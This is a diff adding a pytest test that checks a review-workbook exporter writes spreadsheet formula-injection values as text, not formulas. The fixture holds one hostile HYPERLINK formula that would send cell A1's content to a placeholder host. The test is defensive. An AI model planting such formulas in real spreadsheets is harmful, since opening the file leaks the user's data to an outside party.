@@ -44,3 +44,20 @@ def test_an_edit_of_one_twin_is_read_as_that_edit_only(items, tmp_path):
     assert result.rejected == []
     saved = [(s.row_key, s.field, s.value_after) for s in c.all_corrections(db)]
     assert saved == [("k-12", "plan_value", "99")]
+
+
+def test_plan_text_in_the_review_workbook_is_never_a_formula(items, tmp_path):
+    """openpyxl stores any string starting with '=' as a formula: a plan cell must reach the clerk's
+    Excel as text, and an untouched row must still give no correction."""
+    items = items.copy()
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'
+    items.loc[items["row_key"] == "k-12", "text"] = hostile
+    items.loc[items["row_key"] == "k-12", "unit"] = "=2+2"
+    path, db = tmp_path / "review.xlsx", tmp_path / "store.sqlite"
+    export_workbook(items, path)
+    wb = load_workbook(path)
+    for sheet in ("Review", "Exported"):
+        cells = {c.value: c.data_type for row in wb[sheet].iter_rows(min_row=2) for c in row if c.value}
+        assert cells[hostile] == "s" and cells["=2+2"] == "s", sheet
+    result = apply_workbook(path, items, db, who="Dilnoza")
+    assert result.applied == 0 and result.rejected == []
